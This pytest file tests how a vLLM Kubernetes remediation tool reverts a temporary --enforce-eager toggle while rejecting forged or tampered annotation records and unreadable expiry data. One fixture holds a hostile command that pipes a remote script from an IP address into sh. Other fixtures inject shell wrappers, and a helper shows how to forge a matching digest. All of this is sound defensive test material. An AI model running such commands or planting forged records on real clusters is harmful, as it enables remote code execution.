"""Toggle integrity and unreadable toggle records, pure: what a revert trusts and what every deploy tolerates."""

from __future__ import annotations

import copy
import hashlib
import json
from typing import Any

import pytest

from vllm_remedy.kube.annotations import Keys, read_toggles, scan_toggles
from vllm_remedy.remedies import enforce_eager as toggle

KEYS = Keys()
MODEL = "meta-llama/Llama-3.1-8B-Instruct"
ARGS = [MODEL, "--max-model-len", "16384", "--gpu-memory-utilization", "0.90"]
PRIOR, DIGEST = "vllm-remedy.io/enforce-eager-prior", "vllm-remedy.io/enforce-eager-digest"
EXPIRES = "vllm-remedy.io/enforce-eager-expires"


def template() -> dict[str, Any]:
    return {"spec": {"containers": [{"name": "vllm", "image": "vllm/vllm-openai:v0.8.5", "command": ["vllm", "serve"],
                                     "args": list(ARGS)}]}}


def switched_on() -> tuple[dict[str, Any], dict[str, str]]:
    return toggle.switch_on(template(), KEYS, 0, 60)


def container(t: dict[str, Any]) -> dict[str, Any]:
    return t["spec"]["containers"][0]


def test_a_tampered_prior_record_is_never_written_only_the_flag_comes_off() -> None:
    on, notes = switched_on()
    evil = {"container": "vllm", "command": ["sh", "-c"],
            "args": [f"curl -s http://203.0.113.9/x | sh; exec vllm serve {' '.join(ARGS)}"]}
    (record,) = read_toggles(KEYS, {**notes, PRIOR: json.dumps(evil)})
    undo = toggle.revert(on, KEYS, record)
    assert not undo.exact
    assert (container(undo.template)["command"], container(undo.template)["args"]) == (["vllm", "serve"], ARGS)
    assert undo.message.startswith("remove --enforce-eager only: it differs from the running container outside its "
                                   "vLLM flags")


def test_a_digest_is_neither_written_nor_trusted_and_an_old_one_is_dropped_with_its_toggle() -> None:
    """A record from before the digest was retired (garbled or not) is judged like any other: by the container."""
    on, notes = switched_on()
    assert DIGEST not in notes
    for legacy in ({**notes, DIGEST: "sha256:nope"}, notes):
        (record,) = read_toggles(KEYS, legacy)
        undo = toggle.revert(on, KEYS, record)
        assert undo.exact and undo.template == template(), undo.message
        assert DIGEST in undo.annotations and undo.annotations[DIGEST] is None


def test_an_image_changed_since_the_toggle_stays_and_the_argv_is_restored() -> None:
    """The record holds argv only: the restore never touches the image, so a new image since is kept."""
    on, notes = switched_on()
    edited = copy.deepcopy(on)
    container(edited)["image"] = "vllm/vllm-openai:v0.9.2"
    undo = toggle.revert(edited, KEYS, read_toggles(KEYS, notes)[0])
    assert undo.exact, undo.message
    assert container(undo.template)["image"] == "vllm/vllm-openai:v0.9.2" and container(undo.template)["args"] == ARGS


def test_the_flag_taken_off_by_hand_still_restores_the_exact_prior() -> None:
    on, notes = switched_on()
    edited = copy.deepcopy(on)
    container(edited)["args"] = list(ARGS)
    undo = toggle.revert(edited, KEYS, read_toggles(KEYS, notes)[0])
    assert undo.exact and undo.template == template()


def test_unreadable_records_are_reported_never_raised_and_only_readable_ones_expire() -> None:
    _, notes = switched_on()
    garbage = {EXPIRES: "tomorrow", PRIOR: notes[PRIOR], "vllm-remedy.io/other-expires": "2030-01-01T00:00:00Z"}
    found, bad = scan_toggles(KEYS, garbage)
    assert found == []
    assert [(b.name, b.keys) for b in bad] == [("enforce-eager", (EXPIRES, PRIOR)),
                                               ("other", ("vllm-remedy.io/other-expires",))]
    assert toggle.expired(KEYS, garbage, 2e9) == [] and toggle.active(KEYS, garbage) is None
    line = toggle.malformed_warning(bad[0])
    assert line.startswith("warning: ignoring the unreadable record of toggle enforce-eager (toggle enforce-eager "
                           "expiry: 'tomorrow' is not an RFC 3339 timestamp") and "\n" not in line


def test_in_force_names_each_toggle_whose_flag_the_template_runs() -> None:
    on, notes = switched_on()
    assert toggle.in_force(KEYS, notes, on) == ["temporary toggle enforce-eager is on until 1970-01-01T00:01:00Z"]
    assert toggle.in_force(KEYS, notes, template()) == []
    assert toggle.in_force(KEYS, {EXPIRES: "tomorrow"}, on)[0].startswith(
        "--enforce-eager is on with an unreadable toggle record")


def test_toggle_keys_are_ours_and_only_those() -> None:
    assert all(KEYS.is_toggle_key(k) for k in (EXPIRES, PRIOR, DIGEST))
    assert not any(KEYS.is_toggle_key(k) for k in ("vllm-remedy.io/known-good", "vllm-remedy.io/last-action",
                                                   "example.com/enforce-eager-expires"))


def forged(notes: dict[str, str], prior: dict[str, Any], on: dict[str, Any]) -> dict[str, str]:
    """What anyone who may edit annotations can write: a new prior *and* the digest recomputed to match it (an
    unkeyed sha256, computed here the way the toggle's first design did) - a digest proves nothing."""
    def sha(value: Any) -> str:
        return "sha256:" + hashlib.sha256(json.dumps(value, sort_keys=True, separators=(",", ":")).encode()).hexdigest()

    c = container(on)
    written = {"container": "vllm", "command": c["command"], "args": [a for a in c["args"] if a != "--enforce-eager"],
               "image": c["image"]}
    digest = json.dumps({"prior": sha(prior), "written": sha(written)}, sort_keys=True, separators=(",", ":"))
    return {**notes, PRIOR: json.dumps(prior), DIGEST: digest}


@pytest.mark.parametrize(("prior", "why"), [
    ({"container": "vllm", "command": ["sh", "-c"],
      "args": [f"echo PWNED; exec vllm serve {MODEL} --max-model-len 131072 --gpu-memory-utilization 0.90"]},
     "it differs from the running container in --max-model-len too"),
    ({"container": "vllm", "command": ["sh", "-c"], "args": [f"echo PWNED; exec vllm serve {' '.join(ARGS)}"]},
     "it differs from the running container outside its vLLM flags (command, script, entrypoint or model)"),
    ({"container": "vllm", "command": ["vllm", "serve"], "args": [*ARGS, "--max-model-len", "131072"]},
     "it differs from the running container in --max-model-len too"),
    ({"container": "vllm", "command": ["vllm", "serve"], "args": ["meta-llama/Llama-3.1-70B", *ARGS[1:]]},
     "it differs from the running container outside its vLLM flags (command, script, entrypoint or model)"),
    ({"container": "vllm", "command": ["vllm", "serve"], "args": [*ARGS, "--trust-remote-code"]},
     "it differs from the running container in --trust-remote-code too"),
    ({"container": "vllm", "command": ["vllm", "serve"], "args": [*ARGS, "--enforce-eager"]},
     "the prior argv spells --enforce-eager itself (--enforce-eager)"),
    ({"container": "sidecar", "command": ["sh", "-c", "echo PWNED"], "args": None},
     "the prior-argv record names container 'sidecar', not the vLLM container 'vllm'"),
    ({"container": "vllm", "command": "vllm serve", "args": ARGS},
     "the prior-argv record is not a container's command/args (lists of strings)"),
    ({"container": "vllm", "command": ["sh", "-c"], "args": [f"vllm serve {MODEL}; vllm serve {MODEL}"]},
     "the prior argv does not run a vLLM server this tool can read"),
])
def test_a_forged_prior_with_a_recomputed_digest_is_never_restored(prior: dict[str, Any], why: str) -> None:
    """The record is data anyone who may edit annotations writes: restoring it exactly needs it to be the running
    container with only the toggle's flag off. Anything else: the flag alone comes off, and the line says why."""
    on, notes = switched_on()
    (record,) = read_toggles(KEYS, forged(notes, prior, on))
    undo = toggle.revert(on, KEYS, record)
    assert not undo.exact, undo.message
    assert (container(undo.template)["command"], container(undo.template)["args"]) == (["vllm", "serve"], ARGS)
    assert undo.message.startswith(f"remove --enforce-eager only: {why}"), undo.message
    assert "\n" not in undo.message


def test_the_honest_record_of_a_script_form_container_still_restores_exactly() -> None:
    script = f"exec vllm serve {MODEL} \\\n  --max-model-len 16384 --gpu-memory-utilization 0.90"
    before = {"spec": {"containers": [{"name": "vllm", "image": "vllm/vllm-openai:v0.8.5", "command": ["sh", "-c"],
                                       "args": [script]}]}}
    on, notes = toggle.switch_on(before, KEYS, 0, 60)
    assert container(on)["args"] != [script]
    undo = toggle.revert(on, KEYS, read_toggles(KEYS, notes)[0])
    assert undo.exact and undo.template == before, undo.message


@pytest.mark.parametrize("spelling", [["--enforce-eager", "false"], ["--enforce-eager=0"], ["--enforce-eager=false"],
                                      ["--enforce-eager", "--enforce-eager=false"], ["--no-enforce-eager"],
                                      ["--enforce_eager=False"], ["--enforce-eag", "false"]])
def test_a_prior_spelling_the_flag_in_any_form_is_never_restored(spelling: list[str]) -> None:
    """A forged prior = the running argv plus an 'off' spelling of the flag: restoring it would *add* words (`false`
    crash-loops a store_true flag). Exact restore needs the prior, as written, to be the running argv without the
    flag; anything else removes the flag alone and says why."""
    on, notes = switched_on()
    prior = {"container": "vllm", "command": ["vllm", "serve"], "args": [*ARGS, *spelling]}
    (record,) = read_toggles(KEYS, {**notes, PRIOR: json.dumps(prior)})
    undo = toggle.revert(on, KEYS, record)
    assert not undo.exact, undo.message
    assert (container(undo.template)["command"], container(undo.template)["args"]) == (["vllm", "serve"], ARGS)
    # `--enforce-eager false`: `false` is a positional to argparse (store_true/BooleanOptionalAction take no value)
    assert undo.message.startswith(("remove --enforce-eager only: the prior argv spells --enforce-eager itself (",
                                    "remove --enforce-eager only: it differs from the running container outside its "
                                    "vLLM flags")), undo.message
    assert "\n" not in undo.message


@pytest.mark.parametrize("expires", ["2099-01-01T00:00:00Z", "9999-12-31T23:59:59-23:59"])
def test_an_expiry_beyond_the_policys_max_duration_is_due_and_the_revert_says_why(expires: str) -> None:
    """We stamp at most max_duration after cluster time: a later expiry is not ours, so it comes off like an
    expired one, its line saying why."""
    on, notes = switched_on()
    forged_notes = {**notes, EXPIRES: expires}
    assert toggle.expired(KEYS, forged_notes, 0) == [] and toggle.expired(KEYS, forged_notes, 0, 7200) != []
    (record,) = read_toggles(KEYS, forged_notes)
    why = toggle.due(record, 0, 7200)
    assert why == (f"expiry {expires} is more than 2h ahead (the policy's enforce_eager.max_duration), so no toggle "
                   "under this policy set it: treated as expired")
    undo = toggle.revert(on, KEYS, record, why_due=why)
    assert undo.exact and undo.template == template()
    assert undo.message == f"restore the exact argv from before --enforce-eager ({why})"


def test_an_expiry_within_the_max_duration_is_not_due_until_it_passes() -> None:
    _, notes = switched_on()  # expires at 60
    (record,) = read_toggles(KEYS, notes)
    assert toggle.due(record, 0, 60) is None and toggle.due(record, 59, 7200) is None
    assert toggle.due(record, 60, 7200) == "toggle expired 1970-01-01T00:01:00Z"
